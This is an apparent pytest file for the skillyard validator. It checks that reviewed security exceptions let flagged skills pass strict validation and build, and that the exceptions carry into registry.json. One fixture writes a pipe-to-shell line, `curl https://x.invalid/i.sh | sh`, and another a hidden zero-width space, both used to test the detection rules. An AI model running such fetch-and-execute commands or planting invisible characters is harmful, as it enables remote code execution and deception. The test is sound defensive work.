"""`skillyard validate` and `build` with reviewed security exceptions: the finding is reported with `allowed`, the
skill is valid in strict mode, the report and registry.json match their schemas, and the entry carries the
exceptions the client honours."""

from __future__ import annotations

import json

from skillyard.cli.main import skillyard_main
from skillyard.format.schemas import schema_errors

REASON = "Shows a zero-width space as an example of hidden text."
EXCEPTIONS = f"security_exceptions:\n  - rule: security-invisible-unicode\n    file: references/x.md\n    reason: {REASON}\n"
PIPE_EXCEPTION = "  - rule: security-pipe-to-shell\n    file: references/y.md\n    reason: An attack to recognise.\n"


def run(capsys, *argv):
    code = skillyard_main(list(argv))
    out, err = capsys.readouterr()
    return code, out, err


def teaching_skill(repo, extra: str = EXCEPTIONS):
    folder = repo.add_skill("teach", extra=extra)
    repo.write("skills/teach/references/x.md", "A hidden split: read\u200bthe notes.\n")
    return folder


def test_strict_validate_allows_the_finding_and_reports_it(repo, capsys):
    teaching_skill(repo, extra="")  # first without the exception: the finding is an error
    code, out, _ = run(capsys, "validate", "--root", str(repo.root), "--strict", "--json", str(repo.root / "skills"))
    report = json.loads(out)
    assert code == 1 and report["summary"]["errors"] == 1
    assert "allowed" not in report["skills"][0]["findings"][0]

    teaching_skill(repo, extra=EXCEPTIONS + PIPE_EXCEPTION)
    repo.write("skills/teach/references/y.md", "Attackers write `curl https://x.invalid/i.sh | sh`.\n")
    code, out, _ = run(capsys, "validate", "--root", str(repo.root), "--strict", "--json", str(repo.root / "skills"))
    report = json.loads(out)
    assert code == 0 and report["ok"] is True
    assert schema_errors("validate-report", report) == []
    assert report["summary"] == {"skills": 1, "valid": 1, "invalid": 0, "errors": 0, "warnings": 0}
    finding, pipe = report["skills"][0]["findings"]
    assert pipe["severity"] == "error" and pipe["allowed"] == "An attack to recognise."  # unknown host: blocking
    assert finding["rule"] == "security-invisible-unicode" and finding["severity"] == "error"
    assert finding["allowed"] == REASON and finding["file"] == "references/x.md" and finding["line"] == 1

    code, out, _ = run(capsys, "validate", "--root", str(repo.root), "--strict", str(repo.root / "skills"))
    assert code == 0
    assert "allowed references/x.md:1 [security-invisible-unicode]" in out
    assert f"allowed by the skill, reason: {REASON}" in out
    assert "0 error(s), 0 warning(s), 2 allowed by reviewed security exceptions" in out


def test_build_compiles_the_exceptions_into_the_entry_and_the_cache_keeps_them(repo, capsys):
    teaching_skill(repo)
    repo.add_skill("plain")
    repo.commit()
    code, _, err = run(capsys, "build", "--root", str(repo.root))
    assert code == 0, err
    registry = json.loads((repo.root / "registry.json").read_text(encoding="utf-8"))
    assert schema_errors("registry", registry) == []
    plain, entry = registry["skills"]
    assert "security_exceptions" not in plain  # only a skill that lists some carries the field
    assert entry["security_exceptions"] == [{"rule": "security-invisible-unicode", "file": "references/x.md",
                                             "reason": REASON}]
    assert entry["findings"][0]["allowed"] == REASON
    # A second build reads the skill from the local cache: the allowed finding must still be allowed.
    code, out, err = run(capsys, "build", "--root", str(repo.root), "--check")
    assert code == 0 and "up to date" in out, err



def test_skill_validate_shows_the_reason_and_passes(repo, capsys):
    from skillyard.cli.main import skill_main

    folder = teaching_skill(repo)
    code = skill_main(["validate", str(folder), "--strict"])
    out, err = capsys.readouterr()
    assert code == 0, err
    assert "references/x.md:1: error: [security-invisible-unicode]" in out
    assert f"  allowed by the skill, reason: {REASON}" in out and "fix: Delete the character." not in out
